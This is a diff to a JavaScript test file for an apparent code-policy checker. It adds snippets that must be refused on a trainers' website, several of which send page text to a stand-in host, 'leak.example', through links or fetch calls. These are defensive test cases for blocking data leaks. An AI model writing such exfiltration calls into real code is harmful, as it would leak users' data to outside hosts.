@@ -72,11 +72,30 @@ const REFUSED_IN_SAVE = [
   'fetch("https://leak.example/");',
 ];
 
+/** On the trainers' site, where a little more is open in one file each. */
+const REFUSED_ON_THE_SITE = [
+  ['www/links.js', 'const link = document.createElement("a"); link.href = "https://leak.example/";'],
+  ['www/links.js', 'const link = document.createElement("a"); link.href = `https://leak.example/${text}`;'],
+  ['www/links.js', 'const link = document.createElement("a"); link.href = `${text}`;'],
+  ['www/links.js', 'document.createElement("img");'],
+  ['www/library.js', 'fetch("https://leak.example/");'],
+  ['www/library.js', 'fetch(`https://leak.example/${text}`);'],
+  ['www/library.js', 'fetch(`scenarios/${name}`, { method: "POST", body: text });'],
+  ['www/look.js', 'localStorage.setItem("theme", "dark");'],
+  ['www/look.js', 'keep("note", text);'],
+  ['www/look.js', 'const store = sessionStorage;'],
+  ['www/site.js', 'document.createElement("a");'],
+  ['www/site.js', 'fetch("scenarios/index.json");'],
+  ['www/site.js', 'sessionStorage.setItem("note", "text");'],
+];
+
 const ALLOWED = [
   ['extension/panel/save.js', 'const link = document.createElement("a"); link.href = URL.createObjectURL(new Blob(["x"])); link.click();'],
   ['extension/panel/view.js', 'document.body.textContent = "x"; export const x = 1;'],
   ['extension/panel/view.js', 'navigator.clipboard.writeText("x");'],
   ['extension/panel/engine.js', 'const PACK = new URL("../knowledge.pack", import.meta.url).href; fetch(PACK);'],
+  ['www/links.js', 'const link = document.createElement("a"); link.href = `codebook.html#${encodeURIComponent("E11.6")}`;'],
+  ['www/library.js', 'fetch(`scenarios/${"index.json"}`);'],
   ['extension/content/paint.js', 'CSS.highlights.set("x", new Highlight(document.createRange()));'],
 ];
 
@@ -103,6 +122,12 @@ for (const source of REFUSED_IN_CONTENT) {
 for (const source of REFUSED_IN_SAVE) {
   test(`refused where files are saved: ${source}`, async () => {
     assert.notDeepEqual(await refusals('extension/panel/save.js', source), []);
+  });
+}
+
+for (const [file, source] of REFUSED_ON_THE_SITE) {
+  test(`refused in ${file}: ${source}`, async () => {
+    assert.notDeepEqual(await refusals(file, source), []);
   });
 }
 
